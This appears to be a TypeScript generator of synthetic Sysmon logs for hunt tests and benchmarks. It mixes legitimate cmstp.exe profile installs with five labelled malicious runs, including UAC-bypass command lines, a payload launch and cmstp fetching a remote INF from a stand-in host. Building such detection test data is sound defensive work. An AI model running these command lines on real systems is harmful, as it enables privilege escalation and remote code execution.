// Generated Sysmon telemetry for hunt tests, demos and benchmarks (NDJSON in the OTRF flat
// shape the JSON reader knows): legitimate Connection Manager profile installs across many hosts
// (CMAK self-extractors run by users or SCCM, cmstp.exe with a relative INF in the extraction
// folder, the usual Connection Manager DLLs), and a handful of malicious invocations modelled on
// public procedures (WinPwnage INF bypass, Atomic T1218.003 test 2, remote INF, renamed copy,
// child process). Deterministic for a seed.

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

/** A small seeded PRNG (mulberry32). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type SyntheticRecord = Record<string, string | number>;

export interface LegitOptions {
  seed: number;
  /** Profile installs (cmstp.exe runs). */
  installs: number;
  hosts: number;
  /** ISO start and length of the period, in days. */
  start: string;
  days: number;
  /** Host names are `<prefix>-0001`… */
  hostPrefix?: string;
}

export interface MaliciousRun {
  id: string;
  host: string;
  commandLine: string;
  /** What makes it malicious, for tests and demos. */
  note: string;
}

const PROFILES = ['ContosoVPN', 'FabrikamRAS', 'NorthwindDialup'];
const USERS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'niaj', 'olivia', 'peggy', 'rupert', 'sybil', 'trent', 'victor', 'walter'];
const CM_DLLS = ['cmutil.dll', 'cmcfg32.dll', 'rasapi32.dll', 'rasman.dll', 'rtutils.dll', 'cmlua.dll', 'cmstplua.dll'];
const LUA_DLLS = ['cmstplua.dll', 'cmlua.dll', 'cmutil.dll', 'advpack.dll', 'setupapi.dll', 'spinf.dll', 'devrtl.dll', 'drvstore.dll'];

function hex(rand: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(rand() * 16).toString(16);
  return s;
}

function guid(rand: () => number): string {
  return `{${hex(rand, 8)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 12)}}`;
}

function pick<T>(rand: () => number, xs: readonly T[]): T {
  return xs[Math.floor(rand() * xs.length)]!;
}

function iso(ms: number): string {
  return new Date(ms).toISOString();
}

class Emitter {
  readonly records: SyntheticRecord[] = [];
  private recordId = 1;
  constructor(private readonly rand: () => number) {}

  private base(host: string, time: number, eventId: number): SyntheticRecord {
    return {
      '@timestamp': iso(time),
      TimeCreated: iso(time),
      Hostname: host,
      Channel: SYSMON,
      SourceName: 'Microsoft-Windows-Sysmon',
      EventID: eventId,
      RecordNumber: this.recordId++,
      UtcTime: iso(time).replace('T', ' ').replace('Z', ''),
    };
  }

  process(p: {
    host: string;
    time: number;
    image: string;
    commandLine: string;
    parentImage: string;
    parentCommandLine: string;
    parentGuid?: string;
    user: string;
    integrity: string;
    currentDirectory: string;
    originalFileName?: string;
  }): { guid: string; pid: number } {
    const g = guid(this.rand);
    const pid = 1000 + Math.floor(this.rand() * 60000);
    this.records.push({
      ...this.base(p.host, p.time, 1),
      ProcessGuid: g,
      ProcessId: String(pid),
      Image: p.image,
      OriginalFileName: p.originalFileName ?? (p.image.split('\\').pop() ?? '').toUpperCase(),
      CommandLine: p.commandLine,
      CurrentDirectory: p.currentDirectory,
      User: p.user,
      IntegrityLevel: p.integrity,
      ParentProcessGuid: p.parentGuid ?? guid(this.rand),
      ParentProcessId: String(1000 + Math.floor(this.rand() * 60000)),
      ParentImage: p.parentImage,
      ParentCommandLine: p.parentCommandLine,
    });
    return { guid: g, pid };
  }

  load(host: string, time: number, proc: { guid: string; pid: number }, image: string, loaded: string): void {
    this.records.push({
      ...this.base(host, time, 7),
      ProcessGuid: proc.guid,
      ProcessId: String(proc.pid),
      Image: image,
      ImageLoaded: loaded,
      Signed: 'true',
      Signature: 'Microsoft Windows',
    });
  }
}

/** Legitimate profile installs. */
export function generateLegit(o: LegitOptions): SyntheticRecord[] {
  const rand = prng(o.seed);
  const em = new Emitter(rand);
  const start = Date.parse(o.start);
  const span = o.days * 86400_000;
  const prefix = o.hostPrefix ?? 'CORP-WS';
  for (let i = 0; i < o.installs; i++) {
    const host = `${prefix}-${String(1 + Math.floor(rand() * o.hosts)).padStart(4, '0')}`;
    const user = pick(rand, USERS);
    const profile = pick(rand, PROFILES);
    const time = start + Math.floor(rand() * span);
    const wow = rand() < 0.2;
    const sys = wow ? 'C:\\Windows\\SysWOW64' : 'C:\\Windows\\system32';
    const image = `${sys}\\cmstp.exe`;
    let parent: string;
    let cwd: string;
    let cmd: string;
    let account: string;
    let integrity: string;
    if (rand() < 0.4) {
      // SCCM deployment: all users, silent, as SYSTEM from the client cache.
      const cache = `C:\\Windows\\ccmcache\\${1 + Math.floor(rand() * 40)}${hex(rand, Math.floor(rand() * 2))}`;
      parent = `${cache}\\${profile}.exe`;
      cwd = `${cache}\\`;
      cmd = `${image} ${profile}.inf /s /au`;
      account = 'NT AUTHORITY\\SYSTEM';
      integrity = 'System';
    } else {
      // A user runs the self-extractor; IExpress extracts into %TEMP%\IXPnnn.TMP and runs cmstp there.
      parent = rand() < 0.7 ? `C:\\Users\\${user}\\Downloads\\${profile}.exe` : `C:\\Users\\${user}\\Desktop\\${profile}.exe`;
      cwd = `C:\\Users\\${user}\\AppData\\Local\\Temp\\IXP${String(Math.floor(rand() * 1000)).padStart(3, '0')}.TMP\\`;
      cmd = `cmstp.exe ${profile}.inf${pick(rand, ['', ' /s', ' /s /su', ' /ni'])}`;
      account = `CORP\\${user}`;
      integrity = rand() < 0.8 ? 'Medium' : 'High';
    }
    const proc = em.process({ host, time, image, commandLine: cmd, parentImage: parent, parentCommandLine: `"${parent}"`, user: account, integrity, currentDirectory: cwd });
    for (const [k, dll] of CM_DLLS.entries()) em.load(host, time + 20 + k * 3, proc, image, `${sys}\\${dll}`);
  }
  return em.records;
}

/** A handful of malicious runs on hosts of the legitimate fleet, and what each is. */
export function generateMalicious(seed: number, start: string, hostPrefix = 'CORP-WS'): { records: SyntheticRecord[]; runs: MaliciousRun[] } {
  const rand = prng(seed);
  const em = new Emitter(rand);
  const t0 = Date.parse(start);
  const runs: MaliciousRun[] = [];
  const host = (n: number): string => `${hostPrefix}-${String(n).padStart(4, '0')}`;
  const sys = 'C:\\Windows\\system32';
  const cmstp = `${sys}\\cmstp.exe`;
  const luaHost = (h: string, t: number, user: string, children: string[]): void => {
    const dll = em.process({
      host: h,
      time: t + 500,
      image: `${sys}\\DllHost.exe`,
      commandLine: `${sys}\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}`,
      parentImage: `${sys}\\svchost.exe`,
      parentCommandLine: `${sys}\\svchost.exe -k DcomLaunch -p`,
      user,
      integrity: 'High',
      currentDirectory: `${sys}\\`,
    });
    for (const [k, d] of LUA_DLLS.entries()) em.load(h, t + 520 + k, dll, `${sys}\\DllHost.exe`, `${sys}\\${d}`);
    for (const [k, child] of children.entries()) {
      em.process({
        host: h,
        time: t + 900 + k,
        image: `${sys}\\cmd.exe`,
        commandLine: child,
        parentImage: `${sys}\\DllHost.exe`,
        parentCommandLine: `${sys}\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}`,
        parentGuid: dll.guid,
        user,
        integrity: 'High',
        currentDirectory: `${sys}\\`,
      });
    }
  };
  const loads = (h: string, t: number, proc: { guid: string; pid: number }, image: string, extra: string[]): void => {
    for (const [k, dll] of [...CM_DLLS.map((d) => `${sys}\\${d}`), ...extra].entries()) em.load(h, t + 20 + k * 3, proc, image, dll);
  };

  // 1. WinPwnage: an INF named .ini in %TEMP%, /au from python at Medium integrity, then the CMSTPLUA host.
  {
    const h = host(17);
    const t = t0 + 3600_000;
    const cmd = 'cmstp.exe /au C:\\Users\\mallory\\AppData\\Local\\Temp\\tmp7f3a9c.ini';
    const p = em.process({ host: h, time: t, image: cmstp, commandLine: cmd, parentImage: 'C:\\Python27\\python.exe', parentCommandLine: 'python.exe winpwnage.py -u uac -i 7', user: 'CORP\\mallory', integrity: 'Medium', currentDirectory: 'C:\\Users\\mallory\\' });
    loads(h, t, p, cmstp, []);
    luaHost(h, t, 'CORP\\mallory', ['cmd.exe /c start C:\\Users\\mallory\\AppData\\Local\\Temp\\payload.exe']);
    runs.push({ id: 'winpwnage-ini', host: h, commandLine: cmd, note: '/au with an .ini in %TEMP%, parent python' });
  }
  // 2. Atomic T1218.003 test 2: INF in ProgramData, /s /au from PowerShell.
  {
    const h = host(42);
    const t = t0 + 2 * 86400_000;
    const cmd = '"C:\\windows\\system32\\cmstp.exe" /s C:\\ProgramData\\T1218.003_uacbypass.inf /au';
    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const p = em.process({ host: h, time: t, image: cmstp, commandLine: cmd, parentImage: ps, parentCommandLine: `"${ps}" `, user: 'CORP\\bob', integrity: 'High', currentDirectory: 'C:\\Users\\bob\\' });
    loads(h, t, p, cmstp, []);
    luaHost(h, t, 'CORP\\bob', ['"C:\\Windows\\system32\\cmd.exe" ']);
    runs.push({ id: 'atomic-programdata', host: h, commandLine: cmd, note: 'INF in ProgramData, /s /au, parent PowerShell' });
  }
  // 3. Remote INF from an Office macro; the INF's scriptlet loads scrobj.dll.
  {
    const h = host(73);
    const t = t0 + 3 * 86400_000;
    const cmd = 'cmstp.exe /ni /s https://cdn.example.net/update/p.inf';
    const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
    const p = em.process({ host: h, time: t, image: cmstp, commandLine: cmd, parentImage: word, parentCommandLine: `"${word}" /n "C:\\Users\\carol\\Downloads\\invoice.docm"`, user: 'CORP\\carol', integrity: 'Medium', currentDirectory: 'C:\\Users\\carol\\Documents\\' });
    loads(h, t, p, cmstp, [`${sys}\\scrobj.dll`]);
    runs.push({ id: 'remote-inf', host: h, commandLine: cmd, note: 'remote INF over HTTPS, parent WINWORD, scrobj.dll loaded' });
  }
  // 4. A renamed copy (OriginalFileName still CMSTP.EXE) with an INF in C:\Windows\Tasks, loading the CLR.
  {
    const h = host(108);
    const t = t0 + 4 * 86400_000;
    const image = 'C:\\Users\\dave\\AppData\\Roaming\\svchelper.exe';
    const cmd = `"${image}" /s C:\\Windows\\Tasks\\setup.inf`;
    const p = em.process({ host: h, time: t, image, commandLine: cmd, parentImage: `${sys}\\cmd.exe`, parentCommandLine: 'cmd.exe /c run.bat', user: 'CORP\\dave', integrity: 'High', currentDirectory: 'C:\\Users\\dave\\', originalFileName: 'CMSTP.EXE' });
    loads(h, t, p, image, ['C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll']);
    runs.push({ id: 'renamed-tasks', host: h, commandLine: cmd, note: 'renamed cmstp.exe, INF in C:\\Windows\\Tasks, CLR loaded' });
  }
  // 5. From mshta, INF in PerfLogs, and cmstp.exe starts a child.
  {
    const h = host(131);
    const t = t0 + 5 * 86400_000;
    const cmd = 'cmstp.exe /s /ns C:\\PerfLogs\\a.inf';
    const p = em.process({ host: h, time: t, image: cmstp, commandLine: cmd, parentImage: `${sys}\\mshta.exe`, parentCommandLine: 'mshta.exe vbscript:Execute("...")', user: 'CORP\\erin', integrity: 'Medium', currentDirectory: 'C:\\PerfLogs\\' });
    loads(h, t, p, cmstp, []);
    // Two retries within minutes: a burst on one host.
    for (const k of [1, 2]) em.process({ host: h, time: t + k * 60_000, image: cmstp, commandLine: cmd, parentImage: `${sys}\\mshta.exe`, parentCommandLine: 'mshta.exe vbscript:Execute("...")', user: 'CORP\\erin', integrity: 'Medium', currentDirectory: 'C:\\PerfLogs\\' });
    em.process({ host: h, time: t + 800, image: `${sys}\\calc.exe`, commandLine: 'calc.exe', parentImage: cmstp, parentCommandLine: cmd, parentGuid: p.guid, user: 'CORP\\erin', integrity: 'Medium', currentDirectory: 'C:\\PerfLogs\\' });
    runs.push({ id: 'perflogs-child', host: h, commandLine: cmd, note: 'INF in PerfLogs, parent mshta, three runs in two minutes, child process' });
  }
  return { records: em.records, runs };
}

/** Records as NDJSON text. */
export function toNdjson(records: readonly SyntheticRecord[]): string {
  return records.map((r) => JSON.stringify(r)).join('\n') + '\n';
}
